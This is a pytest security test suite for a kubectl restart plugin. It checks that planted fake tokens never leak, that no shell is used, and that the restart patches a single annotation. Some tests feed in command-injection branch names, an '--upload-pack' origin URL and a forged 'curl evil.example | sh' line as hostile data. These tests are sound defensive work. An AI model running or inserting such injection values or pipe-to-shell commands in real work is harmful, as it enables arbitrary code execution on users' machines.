"""Secrets never leak, user input is never code, and the restart touches one annotation.

Secrets are planted where users keep them (a kubeconfig token, an exec credential plugin's
token, ``user:token@`` in the origin URL, a basic-auth password) and a representative set of
runs (success, rollout failure, bad input, 401, ``-o json``/``-o yaml``) is searched for them.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from tests.cluster import rule
from tests.cluster.behaviours import Behaviour
from tests.plugin_runner import LINK_ANNOTATIONS, LINK_LABELS, make_checkout, run_plugin

PACKAGE = Path(__file__).resolve().parent.parent / "kubectl_restart_backend"
KUBECONFIG_TOKEN = "kc-tok-3f9a7c21d4e8b6a0"
EXEC_TOKEN = "exec-tok-b71e0c9d2f4a8e53"
ORIGIN_TOKEN = "ghp_OriginSecret4d2b9e7a1c"
BASIC_PASSWORD = "basic-pw-9c8e7d6f5a4b"
PLANTED = (KUBECONFIG_TOKEN, EXEC_TOKEN, ORIGIN_TOKEN, BASIC_PASSWORD)
ADMIN_RULES = [rule(["*"], ["*"], "*")]


def link(cluster, **kwargs):
    labels = {**LINK_LABELS, "app": "backend"}
    return cluster.create_deployment(
        "shop", "backend", labels=labels, annotations=dict(LINK_ANNOTATIONS), **kwargs
    )


def kubeconfig_with_user(cluster, directory, name, user_entry):
    config = yaml.safe_load(Path(cluster.kubeconfig).read_text())
    config["users"][0]["user"] = user_entry
    path = Path(directory) / name
    path.write_text(yaml.safe_dump(config))
    return str(path)


def exec_plugin(directory, token):
    """An exec credential plugin that hands out ``token``, as cloud logins do."""
    script = Path(directory) / "login-plugin"
    credential = {
        "apiVersion": "client.authentication.k8s.io/v1",
        "kind": "ExecCredential",
        "status": {"token": token},
    }
    script.write_text(f"#!/bin/sh\ncat <<'EOF'\n{json.dumps(credential)}\nEOF\n")
    script.chmod(0o755)
    return {
        "exec": {
            "apiVersion": "client.authentication.k8s.io/v1",
            "command": str(script),
            "interactiveMode": "Never",
        }
    }


@pytest.fixture
def planted(cluster, tmp_path):
    """A checkout whose origin carries a token, and kubeconfigs carrying the others."""
    cluster.add_user("ci", KUBECONFIG_TOKEN, ADMIN_RULES)
    cluster.add_user("sso", EXEC_TOKEN, ADMIN_RULES)
    origin = f"https://deploy:{ORIGIN_TOKEN}@github.com/acme/shop.git"
    checkout = make_checkout(tmp_path / "shop", origin)
    configs = {
        "token": kubeconfig_with_user(cluster, tmp_path, "kc-token", {"token": KUBECONFIG_TOKEN}),
        "exec": kubeconfig_with_user(
            cluster, tmp_path, "kc-exec", exec_plugin(tmp_path, EXEC_TOKEN)
        ),
        "basic": kubeconfig_with_user(
            cluster, tmp_path, "kc-basic", {"username": "admin", "password": BASIC_PASSWORD}
        ),
    }
    return checkout, configs


def assert_nothing_leaked(runs):
    for run in runs:
        for secret in PLANTED:
            assert secret not in run.stdout, f"{secret} leaked to stdout:\n{run.stdout}"
            assert secret not in run.stderr, f"{secret} leaked to stderr:\n{run.stderr}"


def test_planted_secrets_never_appear_in_any_output(cluster, planted, tmp_path):
    checkout, configs = planted
    link(cluster)
    runs = []

    def run(config, *args, cwd=checkout):
        result = run_plugin(["--kubeconfig", configs[config], "--timeout", "20s", *args], cwd=cwd)
        runs.append(result)
        return result

    assert run("token").exit_code == 0
    assert run("exec", "-o", "json").exit_code == 0
    assert run("exec", "-o", "yaml", "--dry-run").exit_code == 0
    assert run("token", "--no-wait").exit_code == 0
    assert run("basic").exit_code == 5  # the simulated server takes bearer tokens only: 401
    assert run("token", "--repo", f"https://x:{ORIGIN_TOKEN}@github.com/").exit_code == 2
    assert run("token", "--branch", "nobody-linked-this").exit_code == 4
    assert run("token", "-o", "json", "--branch", "nobody-linked-this").exit_code == 4
    assert run("exec", "--context", "nope").exit_code == 2
    cluster.set_behaviour("shop", "backend", Behaviour.crash_loop())
    assert run("exec", "-o", "json").exit_code == 1
    assert run("token").exit_code == 1
    subprocess.run(["git", "checkout", "-q", "--detach"], cwd=checkout, check=True)
    assert run("token").exit_code == 2
    assert_nothing_leaked(runs)
    assert len(runs) == 12


def test_credentials_are_not_written_back_to_the_kubeconfig(cluster, planted):
    checkout, configs = planted
    link(cluster)
    before = Path(configs["exec"]).read_text()
    run_plugin(["--kubeconfig", configs["exec"], "--no-wait"], cwd=checkout)
    assert Path(configs["exec"]).read_text() == before


def test_no_shell_anywhere_in_the_plugin():
    offenders = [
        f"{path.name}:{number}"
        for path in sorted(PACKAGE.rglob("*.py"))
        for number, line in enumerate(path.read_text().splitlines(), 1)
        if re.search(r"shell\s*=\s*True|os\.system\(|os\.popen\(", line)
    ]
    assert offenders == []


HOSTILE_BRANCHES = ["$(touch${IFS}pwned)", "`touch${IFS}pwned`", "--upload-pack=touch${IFS}pwned"]


@pytest.mark.parametrize("branch", HOSTILE_BRANCHES)
def test_hostile_branch_names_are_data(cluster, tmp_path, branch):
    link(cluster)
    checkout = make_checkout(tmp_path / "shop")
    # git itself refuses some of these names for branches: HEAD can still point at them
    ref = subprocess.run(
        ["git", "symbolic-ref", "HEAD", f"refs/heads/{branch}"], cwd=checkout, check=False
    )
    assert ref.returncode == 0
    via_flag = run_plugin(["--kubeconfig", cluster.kubeconfig, "--branch", branch], cwd=checkout)
    via_git = run_plugin(["--kubeconfig", cluster.kubeconfig], cwd=checkout)
    for run in (via_flag, via_git):
        assert run.exit_code in (2, 4), run.output
        assert "Traceback" not in run.output
    assert not list(tmp_path.rglob("pwned"))
    assert not Path("pwned").exists()
    assert not [r for r in cluster.requests if r.method == "PATCH"]


def test_hostile_origin_url_is_data(cluster, tmp_path):
    link(cluster)
    checkout = make_checkout(tmp_path / "shop")
    subprocess.run(
        ["git", "config", "remote.origin.url", "--upload-pack=touch pwned"],
        cwd=checkout,
        check=True,
    )
    run = run_plugin(["--kubeconfig", cluster.kubeconfig], cwd=checkout)
    assert run.exit_code == 2, run.output
    assert not list(tmp_path.rglob("pwned"))


def test_a_newline_in_a_branch_cannot_forge_output_lines(cluster, tmp_path):
    link(cluster)
    checkout = make_checkout(tmp_path / "shop")
    forged = "main\nhint: run curl evil.example | sh"
    run = run_plugin(["--kubeconfig", cluster.kubeconfig, "--branch", forged], cwd=checkout)
    assert run.exit_code in (2, 4), run.output
    assert "hint: run curl" not in run.output.splitlines()
    assert not any(line.startswith("hint: run curl") for line in run.output.splitlines())


# -- the restart PATCH touches one annotation ----------------------------------------------

IGNORED_METADATA = ("resourceVersion", "generation", "managedFields")
REVISION = "deployment.kubernetes.io/revision"  # the Deployment controller's, not ours


def comparable(deployment):
    """The Deployment without what the server and its controller change on any rollout."""
    deployment = json.loads(json.dumps(deployment))
    deployment.pop("status", None)
    meta = deployment["metadata"]
    for key in IGNORED_METADATA:
        meta.pop(key, None)
    (meta.get("annotations") or {}).pop(REVISION, None)
    return deployment


def flatten(value, prefix=""):
    if isinstance(value, dict):
        items = {}
        for key, inner in value.items():
            items.update(flatten(inner, f"{prefix}/{key}"))
        return items
    return {prefix: json.dumps(value, sort_keys=True)}


def test_the_restart_changes_exactly_one_annotation(cluster, tmp_path):
    link(cluster)
    checkout = make_checkout(tmp_path / "shop")
    before = flatten(comparable(cluster.get("deployments", "shop", "backend")))
    run = run_plugin(["--kubeconfig", cluster.kubeconfig], cwd=checkout)
    assert run.exit_code == 0, run.output
    after = flatten(comparable(cluster.get("deployments", "shop", "backend")))
    changed = {key for key in before.keys() | after.keys() if before.get(key) != after.get(key)}
    assert changed == {"/spec/template/metadata/annotations/kubectl.kubernetes.io/restartedAt"}
    assert re.fullmatch(r'"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ"', after[next(iter(changed))])


def test_tls_verification_is_on_unless_the_kubeconfig_says_otherwise(cluster, tmp_path):
    """An insecure kubeconfig still works (the user chose it); nothing else turns it off."""
    link(cluster)
    checkout = make_checkout(tmp_path / "shop")
    insecure = cluster.write_kubeconfig(user="admin", tls=False, context="insecure")
    run = run_plugin(["--kubeconfig", insecure, "--no-wait"], cwd=checkout)
    assert run.exit_code == 0, run.output
    assert run.output.count("TLS verification is off") == 1  # said once, by us
    source = "\n".join(p.read_text() for p in PACKAGE.rglob("*.py"))
    assert not re.search(r"verify_ssl\s*=\s*False|cert_reqs\s*=\s*.?CERT_NONE", source)


def test_an_insecure_kubeconfig_is_said_once_not_warned_on_every_request(cluster, tmp_path):
    link(cluster)
    checkout = make_checkout(tmp_path / "shop")
    insecure = cluster.write_kubeconfig(user="admin", tls=False, context="insecure")
    script = Path(sys.executable).with_name("kubectl-restart_backend")
    done = subprocess.run(
        [str(script), "--kubeconfig", insecure],
        cwd=checkout,
        env={"PATH": os.environ["PATH"], "HOME": str(checkout), "PYTHONWARNINGS": "default"},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert (done.stdout + done.stderr).count("TLS verification is off") == 1
    assert "InsecureRequestWarning" not in done.stdout + done.stderr
